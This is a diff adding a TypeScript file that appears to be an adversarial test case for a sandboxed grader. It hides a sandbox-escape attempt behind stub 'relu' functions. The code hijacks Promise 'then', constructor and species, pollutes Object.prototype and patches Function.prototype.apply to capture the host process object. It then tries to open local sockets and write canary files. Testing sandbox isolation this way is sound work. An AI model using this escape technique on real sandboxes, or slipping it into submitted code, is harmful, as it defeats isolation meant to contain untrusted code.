@@ -1,0 +1,21 @@
+// 93-then-hijack [escape]
+// Tries: replaces then, constructor and species of promises, and waits for whoever awaits the work to hand over functions of its own
+// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
+let H: any = null; let proc: any = null; let st = '';
+const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
+const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
+const take = (x: any) => { if (H === null && foreign(x)) H = x; };
+const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
+  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-93.sock'); });
+  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
+  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-93', 'x')); };
+const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
+  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
+const P = Promise, then = P.prototype.then;
+Object.defineProperty(P.prototype, 'then', { configurable: true, get(this: any) { take(this); return function (this: any, a: any, b: any) { take(this); take(a); take(b); return Reflect.apply(then, this, [a, b]); }; } });
+Object.defineProperty(P.prototype, 'constructor', { configurable: true, get(this: any) { take(this); return P; } });
+Object.defineProperty(P, Symbol.species, { configurable: true, get() { return class { constructor(run: any) { take(run); run((v: any) => take(v), (e: any) => take(e)); } }; } });
+(Object.prototype as any).then = function (a: any, b: any) { take(this); take(a); take(b); };
+await 0; delete (Object.prototype as any).then;
+export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
+export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
